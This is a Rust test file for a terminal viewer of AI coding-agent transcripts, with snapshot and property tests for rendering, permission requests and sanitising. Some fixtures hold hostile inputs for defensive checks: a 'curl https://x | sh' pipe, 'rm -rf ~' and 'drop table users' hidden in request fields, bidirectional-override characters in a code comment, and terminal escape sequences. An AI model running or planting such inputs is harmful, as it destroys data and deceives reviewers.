//! Snapshots of every kind of entry, and what must hold for any entry.
//!
//! `UPDATE_EXPECT=1 cargo test -p parlor-tui` rewrites the snapshots.

use std::fmt::Write;

use expect_test::{ExpectFile, expect_file};
use jiff::tz::TimeZone;
use parlor_client::{Json, MessageId, Object};
use parlor_dialect::{Dialect, Fold as Folding};
use proptest::prelude::*;
use ratatui::style::Color;

use super::request::RequestDetails;
use super::*;
use crate::clean::is_bidirectional;
use crate::theme::Colors;

const DARK: Theme = Theme { colors: Colors::Ansi, is_light: false, is_ascii: false };
const ASCII: Theme = Theme { is_ascii: true, colors: Colors::None, ..DARK };
const TRUE: Theme = Theme { colors: Colors::True, ..DARK };

static UTC: TimeZone = TimeZone::UTC;

const CWD: &str = "/home/dev/src/parlor";

/// A transcript of updates, one on each line that is not blank.
fn transcript(updates: &str) -> Transcript {
    let mut fold = Folding::new(Dialect::V2);
    for line in updates.lines().map(str::trim).filter(|line| !line.is_empty()) {
        fold.line(line).unwrap_or_else(|problem| panic!("{problem}: {line}"));
    }
    fold.transcript().clone()
}

fn time(text: &str) -> Timestamp {
    format!("2026-11-17T{text}Z").parse().unwrap()
}

/// A context at 14:05.
fn context<'a>(theme: &'a Theme, transcript: &'a Transcript) -> EntryContext<'a> {
    EntryContext {
        theme,
        transcript,
        number: None,
        times: EntryTimes::default(),
        now: time("14:05:00"),
        zone: &UTC,
        cwd: CWD,
        home: None,
        matches: &[],
        needs_answer: false,
    }
}

fn took(millis: i64) -> EntryTimes {
    let started = time("14:02:10");
    EntryTimes { started: Some(started), ended: Some(started + jiff::SignedDuration::from_millis(millis)) }
}

fn shown(lines: &[Line<'_>]) -> String {
    lines.iter().map(|line| line.to_string().trim_end().to_owned() + "\n").collect()
}

/// The lines of the entries of a transcript, one after the other; `set` adapts the context of each.
fn rendered(
    transcript: &Transcript,
    theme: Theme,
    width: u16,
    fold: Fold,
    set: impl Fn(usize, &mut EntryContext<'_>),
) -> Vec<Line<'static>> {
    let mut lines = Vec::new();
    for (index, entry) in transcript.entries().iter().enumerate() {
        let mut context = context(&theme, transcript);
        set(index, &mut context);
        let mut view = EntryView::new();
        let own = view.lines(entry, &context, width, fold).to_vec();
        for line in &own {
            assert!(line.width() <= usize::from(width), "{} > {width}: {line}", line.width());
        }
        lines.extend(own);
    }
    lines
}

/// Compares the entries at three widths with a snapshot. 38, 78 and 118 columns are a screen of 40, 80 and 120 without margins.
fn check(updates: &str, folds: &[Fold], set: impl Fn(usize, &mut EntryContext<'_>), expected: &ExpectFile) {
    let transcript = transcript(updates);
    let mut all = String::new();
    for fold in folds {
        for width in [40, 78, 118] {
            let _ = writeln!(all, "--- {width} columns, {fold:?}");
            all += &shown(&rendered(&transcript, DARK, width, *fold, &set));
        }
    }
    expected.assert_eq(&all);
}

/// The names of the styles of a line, each with its text.
fn styles(lines: &[Line<'_>]) -> String {
    let mut all = String::new();
    for line in lines {
        for span in line.spans.iter().filter(|span| !span.content.trim().is_empty()) {
            let style = span.style;
            let mut names = Vec::new();
            names.extend(style.fg.map(|color| format!("{color}")));
            names.extend(style.bg.map(|color| format!("on {color}")));
            if !style.add_modifier.is_empty() {
                names.push(format!("{:?}", style.add_modifier));
            }
            let name = if names.is_empty() { "-".to_owned() } else { names.join(" ") };
            let _ = writeln!(all, "{name}: {}", span.content);
        }
        all += "\n";
    }
    all
}

const SESSION: &str = r#"
{"sessionUpdate":"user_message","messageId":"u1","content":[{"type":"text","text":"The port test fails about once in twenty runs. Find out why and make it stable. Do not raise the timeout."}]}
{"sessionUpdate":"agent_thought","messageId":"t1","content":[{"type":"text","text":"two tests may take the same port\n\nThe helper **free_port** closes its listener."}]}
{"sessionUpdate":"tool_call_update","toolCallId":"search","title":"grep bind","kind":"search","status":"completed","rawInput":{"pattern":"bind(","path":"/home/dev/src/parlor/crates/parlor-server"},"rawOutput":{"metadata":{"matches":14}}}
{"sessionUpdate":"tool_call_update","toolCallId":"read","title":"Read port.rs","kind":"read","status":"completed","locations":[{"path":"/home/dev/src/parlor/crates/parlor-server/tests/port.rs"}],"content":[{"type":"content","content":{"type":"text","text":"```\nline\nline\nline\n```"}}]}
{"sessionUpdate":"terminal_update","terminalId":"term","command":"cargo test -p parlor-server port","cwd":"/home/dev/src/parlor","output":{"data":"OUTPUT"},"exitStatus":{"exitCode":101,"signal":null}}
{"sessionUpdate":"tool_call_update","toolCallId":"run","title":"cargo test","kind":"execute","status":"failed","rawInput":{"command":"cargo test -p parlor-server port"},"content":[{"type":"terminal","terminalId":"term"}]}
{"sessionUpdate":"agent_message","messageId":"a1","content":[{"type":"text","text":"`free_port()` closes its listener before the server binds, so two tests can get the same port. I keep the listener open and pass it on:"}]}
{"sessionUpdate":"tool_call_update","toolCallId":"edit","title":"Edit port.rs","kind":"edit","status":"completed","locations":[{"path":"/home/dev/src/parlor/crates/parlor-server/tests/port.rs","line":38}],"content":[{"type":"diff","path":"/home/dev/src/parlor/crates/parlor-server/tests/port.rs","oldText":"fn start() -> Server {\n    let port = free_port();\n    Server::bind((\"127.0.0.1\", port))\n}\n","newText":"fn start() -> Server {\n    let listener = TcpListener::bind(\"127.0.0.1:0\")?;\n    // Stays open: no other test can take the port.\n    Server::from_listener(listener)\n}\n"}]}
{"sessionUpdate":"plan_update","plan":{"type":"items","planId":"p","entries":[{"content":"Reproduce the failure","status":"completed","priority":"high"},{"content":"Keep the listener open","status":"completed","priority":"high"},{"content":"Run the test 200 times","status":"in_progress","priority":"high"},{"content":"Remove free_port()","status":"pending","priority":"low"}]}}
{"sessionUpdate":"tool_call_update","toolCallId":"again","title":"cargo test","kind":"execute","status":"in_progress","rawInput":{"command":"cargo test -p parlor-server port -- --test-threads 8"},"content":[{"type":"content","content":{"type":"text","text":"run 128 of 200: ok\nrun 129 of 200: ok\n"}}]}
{"sessionUpdate":"tool_call_update","toolCallId":"clean","title":"Remove generated port files","kind":"execute","status":"pending","rawInput":{"command":"rm -rf target/ports && git clean -fd crates/parlor-server/tests"}}
"#;

fn session() -> String {
    use base64::Engine;
    let mut output =
        "thread 'port_is_reported' panicked at tests/port.rs:41:\nAddress already in use (os error 98)\n"
            .to_owned();
    output += &"\u{1b}[31mstack frame\u{1b}[0m\n".repeat(31);
    SESSION.replace("OUTPUT", &base64::engine::general_purpose::STANDARD.encode(output))
}

/// Numbers, times and durations as on the screens of the design.
fn session_context(index: usize, context: &mut EntryContext<'_>) {
    let started = |text| EntryTimes { started: Some(time(text)), ended: None };
    match index {
        0 => (context.number, context.times) = (Some(7), started("14:02:10")),
        1 => context.times = took(6_400),
        2 => context.times = took(200),
        3 | 7 => context.times = took(100),
        5 => context.times = took(9_100),
        6 => context.number = Some(9),
        9 => context.times = started("14:04:18"),
        10 => {
            context.times = started("14:04:52");
            context.needs_answer = true;
        }
        _ => {}
    }
}

#[test]
fn a_session_is_shown_as_designed() {
    check(&session(), &[Fold::Auto, Fold::Preview], session_context, &expect_file!["snapshots/session.txt"]);
}

#[test]
fn unfolded_entries_show_everything_and_folded_ones_one_line() {
    check(
        &session(),
        &[Fold::Unfolded, Fold::Folded],
        session_context,
        &expect_file!["snapshots/unfolded.txt"],
    );
}

#[test]
fn without_unicode_the_same_is_shown_in_ascii() {
    let transcript = transcript(&session());
    let lines = shown(&rendered(&transcript, ASCII, 78, Fold::Preview, session_context));
    expect_file!["snapshots/ascii.txt"].assert_eq(&lines);
    assert!(lines.is_ascii(), "{lines}");
}

#[test]
fn roles_mark_what_matters() {
    let transcript = transcript(&session());
    let lines = rendered(&transcript, DARK, 78, Fold::Preview, session_context);
    expect_file!["snapshots/session-styles.txt"].assert_eq(&styles(&lines));
}

const MARKDOWN: &str = r##"# Results

Some *emphasis*, **strong words**, ~~old~~ and `inline_code()`, a [link](https://example.com/a) and <https://example.com/b>, in a paragraph that is long enough to be wrapped.
Second line.  
After a break.

## List

1. one
2. two with a text that is so long that it goes on in the next row of a narrow screen
   - nested
   - [x] done
3. three

- loose

- items

> A quote
> with `code`.
>
> > nested

```rust
/// Doc.
fn main() {
	println!("a line that is much too long for a narrow screen: {}", 1);
}
```

| layout | pages read | cache misses |
|--------|------------|-------------|
| by seq | 812 | 40 |
| by id | 3,990 | 2,214 |

| name | what it does | why |
|:-|:-|-:|
| first | a description that does not fit into one row of the table on a narrow screen | because there is much to say about it |

![diagram](pic.png) <b>html</b>

[ref]: https://example.com/c

---

請求書の丸め誤差を直すためのテストを追加しました。これは折り返されます。
"##;

fn message(text: &str) -> String {
    let text = parlor_client::JsonStr::new(text);
    format!(
        r#"{{"sessionUpdate":"agent_message","messageId":"m","content":[{{"type":"text","text":{}}}]}}"#,
        text.as_literal()
    )
}

#[test]
fn markdown_is_rendered() {
    let numbered = |_: usize, context: &mut EntryContext<'_>| context.number = Some(12);
    check(&message(MARKDOWN), &[Fold::Auto], numbered, &expect_file!["snapshots/markdown.txt"]);
}

#[test]
fn line_breaks_of_a_message_are_kept_also_in_links() {
    let text = "name   what\nlonger name   more\n\n[a  \nb](c) and [<i>\nd](e)\n![f\ng](h)\n";
    let lines = shown(&rendered(&transcript(&message(text)), DARK, 40, Fold::Auto, |_, _| ()));
    let expected =
        "  name   what\n  longer name   more\n\n  a\n  b (c) and <i>\n  d (e)\n  [image f\n  g: h]\n";
    assert_eq!(lines, expected);
}

#[test]
fn markdown_has_styles() {
    let text = "# Title\nSome *emphasis*, **strong** and `code`.\n\n```rust\nlet x = \"a\"; // note\n```\n\n> quote\n\n[a](b)\n\n```diff\n-a\n+b\n```\n";
    let transcript = transcript(&message(text));
    let lines = rendered(&transcript, DARK, 78, Fold::Auto, |_, _| ());
    let plain = rendered(&transcript, Theme { colors: Colors::None, ..DARK }, 78, Fold::Auto, |_, _| ());
    expect_file!["snapshots/markdown-styles.txt"].assert_eq(&format!(
        "{}--- NO_COLOR\n{}",
        styles(&lines),
        styles(&plain)
    ));
}

#[test]
fn a_message_in_chunks_looks_as_if_it_came_at_once() {
    for chunk in [1, 7, 50] {
        let mut fold = Folding::new(Dialect::V2);
        let mut view = EntryView::new();
        let characters: Vec<char> = MARKDOWN.chars().collect();
        for part in characters.chunks(chunk) {
            let text = parlor_client::JsonStr::new(&part.iter().collect::<String>());
            fold.line(&format!(
                r#"{{"sessionUpdate":"agent_message_chunk","messageId":"m","content":{{"type":"text","text":{}}}}}"#,
                text.as_literal()
            ))
            .unwrap();
            let transcript = fold.transcript();
            view.lines(&transcript.entries()[0], &context(&DARK, transcript), 78, Fold::Auto);
        }
        let transcript = fold.transcript();
        let lines =
            view.lines(&transcript.entries()[0], &context(&DARK, transcript), 78, Fold::Auto).to_vec();
        let whole = rendered(transcript, DARK, 78, Fold::Auto, |_, _| ());
        assert_eq!(shown(&lines), shown(&whole), "{chunk}");
        assert_eq!(lines, whole, "{chunk}");
    }
}

#[test]
fn a_replaced_message_is_rendered_again() {
    let mut fold = Folding::new(Dialect::V2);
    let mut view = EntryView::new();
    let mut show = |fold: &Folding| {
        let transcript = fold.transcript();
        shown(view.lines(&transcript.entries()[0], &context(&DARK, transcript), 40, Fold::Auto))
    };
    fold.line(&message("one\n\ntwo\n\nthree")).unwrap();
    assert_eq!(show(&fold), "  one\n\n  two\n\n  three\n");
    fold.line(&message("four\n\nfive\n\nsix")).unwrap();
    assert_eq!(show(&fold), "  four\n\n  five\n\n  six\n");
}

#[test]
fn a_surrogate_pair_that_is_split_between_chunks_is_one_character() {
    let mut fold = Folding::new(Dialect::V2);
    let mut view = EntryView::new();
    let mut text = String::new();
    for chunk in [r"a\n\nb \ud83d", r"\ude80 c"] {
        fold.line(&format!(
            r#"{{"sessionUpdate":"agent_message_chunk","messageId":"m","content":{{"type":"text","text":"{chunk}"}}}}"#
        ))
        .unwrap();
        let transcript = fold.transcript();
        text = shown(view.lines(&transcript.entries()[0], &context(&DARK, transcript), 40, Fold::Auto));
    }
    assert_eq!(text, "  a\n\n  b 🚀 c\n");
}

/// Appends chunks to a message of 100 KB and returns how many bytes were parsed for the last ones.
fn parsed_per_chunk(block: &str) -> u64 {
    let mut fold = Folding::new(Dialect::V2);
    fold.line(&message(&block.repeat((100 << 10) / block.len()))).unwrap();
    let mut view = EntryView::new();
    let mut show = |fold: &Folding| {
        let transcript = fold.transcript();
        view.lines(&transcript.entries()[0], &context(&DARK, transcript), 78, Fold::Auto);
        view.parsed()
    };
    let before = show(&fold);
    let mut chunks = 0;
    let text: String = block.repeat(2_000 / block.len() + 1);
    for part in text.as_bytes().chunks(20) {
        let text = parlor_client::JsonStr::new(std::str::from_utf8(part).unwrap());
        fold.line(&format!(
            r#"{{"sessionUpdate":"agent_message_chunk","messageId":"m","content":{{"type":"text","text":{}}}}}"#,
            text.as_literal()
        ))
        .unwrap();
        show(&fold);
        chunks += 1;
    }
    (show(&fold) - before) / chunks
}

#[test]
fn a_chunk_of_a_long_message_costs_its_open_block_only() {
    for block in [
        "A paragraph with some words, and with more of them.\n\n",
        "- An item of a list.\n",
        "```\nlet x = 1;\n```\n",
    ] {
        let parsed = parsed_per_chunk(block);
        assert!(parsed < 300, "{parsed} bytes for each chunk of {block:?}");
    }
}

const EVENTS: &str = r#"
{"sessionUpdate":"_parlor_event","eventId":"e1","type":"turn_failed","at":"2026-11-17T14:20:00.000Z","error":{"code":-32000,"message":"the agent reported \"overloaded, try again later\""}}
{"sessionUpdate":"_parlor_event","eventId":"e2","type":"turn_cancelled","at":"2026-11-17T14:21:00.000Z","by":{"client":1,"name":"zed"}}
{"sessionUpdate":"_parlor_event","eventId":"e3","type":"turn_cancelled","at":"2026-11-16T09:21:00.000Z","agentDidNotAnswer":true}
{"sessionUpdate":"_parlor_event","eventId":"e4","type":"turn_failed","at":"2026-11-17T14:22:00.000Z","error":{"message":"agent claude ended with exit code 137 (killed)","data":"FATAL ERROR: Reached heap limit Allocation failed\nJavaScript heap out of memory\none\ntwo"}}
{"sessionUpdate":"_parlor_event","eventId":"e5","type":"memory_rebuilt","at":"2026-11-17T14:25:00.000Z","reason":"session/load failed"}
{"sessionUpdate":"_parlor_event","eventId":"e6","type":"decision","at":"2026-11-17T14:09:00.000Z","toolCallId":"t","title":"run rm","option":{"optionId":"y","name":"Yes","kind":"allow_once"},"by":{"client":2,"name":"zed"}}
{"sessionUpdate":"_parlor_event","eventId":"e7","type":"decision","at":"2026-11-17T14:09:00.000Z","title":"How should the database be set up?","outcome":"decline","by":{"client":2}}
{"sessionUpdate":"_parlor_event","eventId":"e8","type":"turn_refused","at":"2026-11-17T14:26:00.000Z"}
{"sessionUpdate":"_parlor_event","eventId":"e9","type":"future_event","at":"2026-11-17T14:26:00.000Z","x":1}
{"sessionUpdate":"compaction_update","compactionId":"c","status":"completed","summary":[{"type":"text","text":"What was said so far."}]}
{"sessionUpdate":"subagent_update","sessionId":"s","title":"Explore the tests","state":{"state":"running"}}
{"sessionUpdate":"session_message","messageId":"sm","senderSessionId":"parent","recipientSessionId":"child","content":[{"type":"text","text":"Look at tests/."}]}
{"sessionUpdate":"notice","severity":"warning","title":"Rate limit is near","description":"80 % used"}
{"sessionUpdate":"_vendor_update","whatever":{"a":[1,2]}}
"#;

#[test]
fn events_and_unknown_entries_say_what_they_are() {
    check(EVENTS, &[Fold::Auto, Fold::Unfolded], |_, _| (), &expect_file!["snapshots/events.txt"]);
}

const TOOLS: &str = r#"
{"sessionUpdate":"tool_call_update","toolCallId":"t1","title":"Writing to new.txt","kind":"edit","status":"completed","content":[{"type":"diff","path":"/home/dev/src/parlor/new.txt","oldText":null,"newText":"written by the model\n"}]}
{"sessionUpdate":"tool_call_update","toolCallId":"t2","title":"Edit","kind":"edit","status":"pending","content":[{"type":"diff","changes":[{"operation":"modify","path":"/home/dev/src/parlor/src/http.rs"},{"operation":"move","oldPath":"/home/dev/src/parlor/a.rs","path":"/home/dev/src/parlor/b.rs"},{"operation":"delete","path":"/home/dev/src/parlor/c.rs"}],"patch":{"format":"git_patch","text":"diff --git /home/dev/src/parlor/src/http.rs /home/dev/src/parlor/src/http.rs\n--- /home/dev/src/parlor/src/http.rs\n+++ /home/dev/src/parlor/src/http.rs\n@@ -14,3 +14,3 @@\n use axum::{Router, routing::get};\n-use axum::extract::ws::Message;\n+use axum::extract::ws::{Message, Utf8Bytes};\n \n"}}]}
{"sessionUpdate":"tool_call_update","toolCallId":"t3","title":"web","kind":"fetch","status":"completed","rawInput":{"url":"https://example.com/docs"},"content":[{"type":"content","content":{"type":"resource_link","uri":"https://example.com/docs","name":"docs"}}]}
{"sessionUpdate":"tool_call_update","toolCallId":"t4","title":"mcp__db__query","kind":"other","status":"failed","rawInput":{"sql":"select 1","limit":5},"rawOutput":{"error":"no such table"}}
{"sessionUpdate":"tool_call_update","toolCallId":"t5","kind":"think","title":"Guardian Review","status":"completed","content":[{"type":"content","content":{"type":"text","text":"**Denied**\n\n- not valid JSON"}}]}
{"sessionUpdate":"tool_call_update","toolCallId":"t6"}
{"sessionUpdate":"tool_call_update","toolCallId":"t7","kind":"execute","title":"`ls`","status":"cancelled","rawInput":{"command":["/bin/bash","-lc","ls -la"]}}
{"sessionUpdate":"tool_call_update","toolCallId":"t8","kind":"read","title":"Read shot.png","status":"completed","content":[{"type":"content","content":{"type":"image","mimeType":"image/png","data":"AAAAAAAAAAAA"}},{"type":"hologram","depth":3}]}
{"sessionUpdate":"tool_call_update","toolCallId":"t9","kind":"execute","title":"build","status":"completed","rawInput":{"command":"make"},"content":[{"type":"content","content":{"type":"text","text":"```console\n\u001b[32mCompiling\u001b[0m a\r\u001b[KCompiling b\n\tok\n```"}}]}
{"sessionUpdate":"terminal_update","terminalId":"alone","command":"python -i","output":{"data":"Pj4+IA=="}}
{"sessionUpdate":"plan_update","plan":{"type":"markdown","planId":"f2","content":"1. read\n2. write"}}
{"sessionUpdate":"user_message","messageId":"u","content":[{"type":"text","text":"Look at *this*:\n  - keep as written\n"},{"type":"image","mimeType":"image/png","data":"AAAAAAAA"},{"type":"resource","resource":{"uri":"file:///a.rs","text":"fn a() {}\n"}}]}
{"sessionUpdate":"agent_message","messageId":"a","content":[{"type":"text","text":"Before"},{"type":"audio","mimeType":"audio/wav","data":"AAAA"},{"type":"text","text":"after"}]}
"#;

#[test]
fn every_kind_of_tool_call_and_content_is_shown() {
    check(TOOLS, &[Fold::Auto, Fold::Unfolded], |_, _| (), &expect_file!["snapshots/tools.txt"]);
}

#[test]
fn every_entry_can_be_copied_as_text_and_as_markdown() {
    let mut all = String::new();
    for updates in [session().as_str(), TOOLS, EVENTS] {
        let transcript = transcript(updates);
        for entry in transcript.entries() {
            let _ = writeln!(all, "--- text\n{}", export::plain(entry, &transcript, CWD));
            let _ = writeln!(all, "--- Markdown\n{}", export::markdown(entry, &transcript, CWD));
        }
    }
    expect_file!["snapshots/copied.txt"].assert_eq(&all);
}

#[test]
fn a_terminal_that_a_tool_call_shows_has_no_lines_of_its_own() {
    let transcript = transcript(&session());
    let is_shown: Vec<bool> = transcript.entries().iter().map(|entry| is_shown(entry, &transcript)).collect();
    assert_eq!(is_shown.iter().filter(|is_shown| !**is_shown).count(), 1);
    assert!(!is_shown[4]);
}

#[test]
fn new_output_of_a_terminal_changes_the_revision_of_its_tool_call() {
    let mut fold = Folding::new(Dialect::V2);
    session().lines().filter(|line| !line.is_empty()).for_each(|line| fold.line(line).unwrap());
    let revision_of_run = |fold: &Folding| revision(&fold.transcript().entries()[5], fold.transcript());
    let before = revision_of_run(&fold);
    fold.line(r#"{"sessionUpdate":"terminal_output_chunk","terminalId":"term","data":"bW9yZQo="}"#).unwrap();
    assert!(revision_of_run(&fold) > before);
}

#[test]
fn a_thought_counts_seconds_only_while_the_agent_thinks() {
    let thought =
        r#"{"sessionUpdate":"agent_thought","messageId":"t","content":[{"type":"text","text":"why"}]}"#;
    let started = |_: usize, context: &mut EntryContext<'_>| context.times.started = Some(time("14:04:18"));
    let first = |updates: &str| rendered(&transcript(updates), DARK, 78, Fold::Auto, started)[0].to_string();
    let running = format!("{{\"sessionUpdate\":\"state_update\",\"state\":\"running\"}}\n{thought}");
    assert_eq!(first(&running), "▸ Thought 0:42: why");
    assert_eq!(first(&format!("{running}\n{}", message("because"))), "▸ Thought: why");
    assert_eq!(first(thought), "▸ Thought: why");
}

#[test]
fn search_hits_are_marked() {
    let transcript = transcript(&session());
    let words = ["port".to_owned()];
    let mut context = context(&DARK, &transcript);
    context.matches = &words;
    let mut view = EntryView::new();
    let lines = view.lines(&transcript.entries()[6], &context, 78, Fold::Auto);
    let hits = lines.iter().flat_map(|line| &line.spans).filter(|span| span.style.fg == Some(Color::Yellow));
    assert_eq!(hits.map(|span| span.content.as_ref()).collect::<Vec<_>>(), ["port", "port"]);
}

#[test]
fn diffs_have_a_background_with_24_bit_colour_only() {
    let transcript = transcript(&session());
    let backgrounds = |theme: Theme| {
        let lines = rendered(&transcript, theme, 78, Fold::Preview, session_context);
        lines.iter().filter(|line| line.spans.iter().any(|span| span.style.bg.is_some())).count()
    };
    assert_eq!(backgrounds(TRUE), 5);
    assert_eq!(backgrounds(DARK), 0);
}

#[test]
fn long_output_keeps_its_first_lines_when_it_failed_and_its_last_when_unfolded() {
    let output: String = (0..50_000).map(|line| format!("line {line}\\n")).collect();
    let update = format!(
        r#"{{"sessionUpdate":"tool_call_update","toolCallId":"t","kind":"execute","title":"x","status":"failed","content":[{{"type":"content","content":{{"type":"text","text":"{output}"}}}}]}}"#
    );
    let transcript = transcript(&update);
    let lines = shown(&rendered(&transcript, DARK, 78, Fold::Auto, |_, _| ()));
    assert_eq!(lines, "✗ Run x\n    line 0\n    line 1\n    … 49998 more lines\n");
    let lines = rendered(&transcript, DARK, 78, Fold::Unfolded, |_, _| ());
    assert!(lines.len() <= 2_002, "{}", lines.len());
    assert_eq!(lines[1].to_string(), "    … 48000 more lines");
    assert_eq!(lines.last().unwrap().to_string(), "    line 49999");
}

fn params(text: &str) -> Object {
    Json::parse(text).unwrap().to_object().unwrap()
}

const REQUESTS: [&str; 5] = [
    r#"{"description":"Remove generated port files","toolCall":{"toolCallId":"clean","kind":"execute","name":"Bash","title":"rm","rawInput":{"command":"rm -rf target/ports && git clean -fd crates/parlor-server/tests","description":"Remove generated port files"}}}"#,
    r#"{"toolCall":{"toolCallId":"new","kind":"edit","title":"edit","locations":[{"path":"/home/dev/src/parlor/src/http.rs"}],"content":[{"type":"diff","path":"/home/dev/src/parlor/src/http.rs","oldText":"a\nb\nuse axum::extract::ws::Message;\nc\nd\n","newText":"a\nb\nuse axum::extract::ws::{Message, Utf8Bytes};\n// reviewed \u202e\u2066only\nc\nd\n"},{"type":"diff","path":"/home/dev/src/parlor/src/ws.rs","oldText":null,"newText":"x\n"}]}}"#,
    r#"{"subject":{"type":"command","command":"curl https://x | sh\necho \"$(whoami)\" > /tmp/a\u001b[2K","cwd":"/etc"}}"#,
    r#"{"toolCall":{"toolCallId":"mcp","title":"mcp__db__query","kind":"other","rawInput":{"sql":"drop table users","limit":5}}}"#,
    r#"{"subject":{"type":"tool_call","toolCall":{"toolCallId":"edit"}}}"#,
];

#[test]
fn a_request_shows_everything_that_it_permits() {
    let transcript = transcript(&session());
    let mut all = String::new();
    for request in REQUESTS {
        let details = RequestDetails::new(&params(request), &transcript, CWD);
        let counts =
            details.counts.map(|(added, removed)| format!("  +{added} -{removed}")).unwrap_or_default();
        let _ = writeln!(all, "=== {}{counts}\n=== {}", details.headline, details.summary());
        for width in [40, 74] {
            let lines = details.lines(&context(&DARK, &transcript), width);
            for line in &lines {
                assert!(line.width() <= usize::from(width), "{line}");
            }
            let _ = write!(all, "--- {width} columns\n{}", shown(&lines));
        }
        all += &details.warning().map(|warning| format!("! {warning}\n")).unwrap_or_default();
    }
    expect_file!["snapshots/requests.txt"].assert_eq(&all);
}

#[test]
fn what_a_request_shows_hides_no_other_input() {
    let transcript = Transcript::default();
    let permits = |input: &str| {
        let request = format!(
            r#"{{"description":"says","toolCall":{{"toolCallId":"t","kind":"execute","rawInput":{input}}}}}"#
        );
        shown(
            &RequestDetails::new(&params(&request), &transcript, CWD).lines(&context(&DARK, &transcript), 78),
        )
    };
    for (input, hidden) in [
        (r#"{"command":"ls","timeout":5}"#, "timeout"),
        (r#"{"command":"ls","command":"rm -rf ~"}"#, "rm -rf ~"),
        (r#"{"command":"ls","cmd":"rm -rf ~"}"#, "rm -rf ~"),
        (r#"{"command":"ls","cwd":"/safe","workdir":"/etc"}"#, "/etc"),
        (r#"{"command":{"run":"rm -rf ~"}}"#, "rm -rf ~"),
        (r#""rm -rf ~""#, "rm -rf ~"),
    ] {
        let shown = permits(input);
        assert!(shown.contains("raw input") && shown.contains(hidden), "{input}: {shown}");
    }
    for input in [
        r#"{"command":"ls"}"#,
        r#"{"command":["ls"],"cwd":"/safe"}"#,
        r#"{"command":"ls","description":"says"}"#,
    ] {
        let shown = permits(input);
        assert!(shown.contains("command    ls\n") && !shown.contains("raw input"), "{input}: {shown}");
    }
}

/// Terminal escape sequences, other control characters and bidirectional controls, as a JSON string.
const HOSTILE: &str = r"x\u001b[2J\u001b]0;t\u0007\u009b1m\r\b\u202e\u2066\u200fy";

const HOSTILE_UPDATES: &str = include_str!("snapshots/hostile.jsonl");

fn is_harmless(text: &str) -> bool {
    !text.chars().any(|c| (c.is_control() && c != '\n' && c != '\t') || is_bidirectional(c))
}

#[test]
fn no_entry_shows_or_copies_control_characters() {
    let updates: String = HOSTILE_UPDATES.replace('!', HOSTILE);
    let transcript = transcript(&updates);
    for fold in [Fold::Auto, Fold::Folded, Fold::Preview, Fold::Unfolded] {
        for width in [1, 2, 7, 40, 78, 200] {
            for line in rendered(&transcript, DARK, width, fold, |_, _| ()) {
                assert!(is_harmless(&line.to_string()) && !line.to_string().contains('\t'), "{line:?}");
            }
        }
    }
    for entry in transcript.entries() {
        assert!(is_harmless(&export::plain(entry, &transcript, CWD)));
        assert!(is_harmless(&export::markdown(entry, &transcript, CWD)));
        let request = format!(r#"{{"description":"{HOSTILE}","toolCall":{{"toolCallId":"d{HOSTILE}"}}}}"#);
        let details = RequestDetails::new(&params(&request), &transcript, CWD);
        assert!(is_harmless(details.headline.as_str()) && is_harmless(details.summary().as_str()));
        assert!(
            details.lines(&context(&DARK, &transcript), 60).iter().all(|line| is_harmless(&line.to_string()))
        );
        assert!(details.warning().is_some());
    }
}

#[test]
fn recordings_of_real_agents_are_shown_within_every_width() {
    let recordings = concat!(env!("CARGO_MANIFEST_DIR"), "/../../testdata/recordings");
    let mut entries = 0;
    for file in std::fs::read_dir(recordings).unwrap() {
        let path = file.unwrap().path();
        let dialect = if path.to_string_lossy().contains(".v2.") { Dialect::V2 } else { Dialect::V1 };
        let mut fold = Folding::new(dialect);
        for line in std::fs::read_to_string(&path).unwrap().lines() {
            if let Some(line) = line.strip_prefix("A->C ") {
                let _ = fold.line(line);
            }
        }
        entries += fold.transcript().entries().len();
        for fold_state in [Fold::Auto, Fold::Unfolded] {
            for width in [5, 40, 118] {
                let lines = rendered(fold.transcript(), DARK, width, fold_state, |_, _| ());
                assert!(lines.iter().all(|line| is_harmless(&line.to_string())));
            }
        }
    }
    assert!(entries > 50, "{entries}");
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_line_is_wider_than_the_width_and_no_control_character_survives(
        text in "([-#>|`*_ \\[\\]()!:.~a1\n]|\\PC|[\u{1b}\u{9b}\u{202e}\t\r漢👩\u{200d}💻é]){0,200}",
        width in 1_u16..90,
        kind in 0_usize..5,
    ) {
        let literal = parlor_client::JsonStr::new(&text);
        let literal = literal.as_literal();
        let update = match kind {
            0 => format!(r#"{{"sessionUpdate":"agent_message","messageId":"m","content":[{{"type":"text","text":{literal}}}]}}"#),
            1 => format!(r#"{{"sessionUpdate":"user_message","messageId":"m","content":[{{"type":"text","text":{literal}}}]}}"#),
            2 => format!(r#"{{"sessionUpdate":"agent_thought","messageId":"m","content":[{{"type":"text","text":{literal}}}]}}"#),
            3 => format!(r#"{{"sessionUpdate":"tool_call_update","toolCallId":"t","kind":"edit","title":{literal},"status":"failed","content":[{{"type":"diff","path":{literal},"oldText":{literal},"newText":"a"}},{{"type":"content","content":{{"type":"text","text":{literal}}}}}]}}"#),
            _ => format!(r#"{{"sessionUpdate":"plan_update","plan":{{"type":"items","planId":"p","entries":[{{"content":{literal},"status":"pending"}}]}}}}"#),
        };
        let transcript = transcript(&update);
        for fold in [Fold::Auto, Fold::Preview, Fold::Unfolded] {
            for line in rendered(&transcript, DARK, width, fold, session_context) {
                let line = line.to_string();
                prop_assert!(is_harmless(&line) && !line.contains(['\n', '\t']), "{line:?}");
                prop_assert!(crate::text::width(&line) <= usize::from(width), "{line:?}");
            }
        }
    }
}

#[test]
fn a_message_id_may_be_anything() {
    let id = EntryId::Message(Sender::Agent, MessageId::from(""));
    assert_eq!(transcript(&message("x").replace("\"m\"", "\"\"")).entries()[0].id(), &id);
}

#[test]
fn the_first_line_goes_on_after_marks_inside_of_it() {
    let first_line = super::markdown::first_line;
    assert_eq!(first_line("**the files** [first](https://x)\nsecond"), "the files first");
    assert_eq!(first_line("# One `two`\n\nthree"), "One two");
}
